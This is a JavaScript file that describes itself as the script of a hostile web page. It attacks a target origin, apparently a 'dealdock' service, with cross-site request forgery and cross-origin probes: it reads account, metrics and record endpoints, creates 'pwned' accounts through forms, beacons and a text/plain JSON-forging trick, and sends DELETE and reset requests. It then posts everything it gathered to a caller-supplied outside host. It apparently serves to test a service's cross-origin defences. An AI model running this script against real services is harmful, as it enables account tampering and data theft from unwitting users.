// The script of a hostile page. It tries what a page can do, and posts the results to its own site.
const asked = new URLSearchParams(location.search);
const target = asked.get("target") || location.origin;
const found = {};

async function attempt(name, work) {
  try {
    found[name] = await work();
  } catch (error) {
    found[name] = `failed: ${error.name}`;
  }
}

async function read(path, options) {
  const response = await fetch(target + path, options);
  return `${response.type} ${response.status} ${(await response.text()).slice(0, 2000)}`;
}

function loaded(tag, attribute, path) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("failed");
    element[attribute] = target + path;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
  });
}

function submitted(path, enctype, name, value) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${document.forms.length}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: target + path, enctype, target: frame.name });
    const field = document.createElement("input");
    Object.assign(field, { name, value });
    form.append(field);
    document.body.append(form);
    frame.onload = () => done("submitted");
    form.submit();
  });
}

function connected(path) {
  return new Promise((done) => {
    const connection = new WebSocket(target.replace("http", "ws") + path);
    connection.onopen = () => done("open");
    connection.onerror = () => done("failed");
  });
}

async function attack() {
  const accounts = "/_dealdock/accounts";
  const json = { "Content-Type": "application/json" };
  const body = '{"name": "pwned"}';
  await attempt("read", () => read(accounts));
  await attempt("read opaquely", () => read(accounts, { mode: "no-cors" }));
  await attempt("read the front page", () => read("/", { headers: { Accept: "application/json" } }));
  await attempt("read the front page opaquely", () => read("/", { mode: "no-cors" }));
  await attempt("read the metrics", () => read("/_dealdock/metrics"));
  await attempt("create", () => read(accounts, { method: "POST", headers: json, body }));
  await attempt("create simply", () => read(accounts, { method: "POST", mode: "no-cors", body }));
  await attempt("create without a body", () => read(accounts, { method: "POST", mode: "no-cors" }));
  await attempt("create by form", () => submitted(accounts, "text/plain", '{"name": "pwned", "x": "', '"}'));
  await attempt("create by usual form", () => submitted(accounts, "application/x-www-form-urlencoded", "name", "pwned"));
  await attempt("create by beacon", () => navigator.sendBeacon(target + accounts, new Blob([body])) && "sent");
  await attempt("delete", () => read(`${accounts}/1`, { method: "DELETE" }));
  await attempt("reset", () => read(`${accounts}/1/reset`, { method: "POST", mode: "no-cors" }));
  await attempt("load as script", () => loaded("script", "src", accounts));
  await attempt("load the front page as script", () => loaded("script", "src", "/"));
  await attempt("load as image", () => loaded("img", "src", accounts));
  await attempt("load as style", () => loaded("link", "href", accounts));
  await attempt("connect", () => connected(accounts));
  await attempt("read the records", () => read("/api/opportunity/version/3/do/query?format=json"));
  await fetch(asked.get("tell"), { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
}

attack();
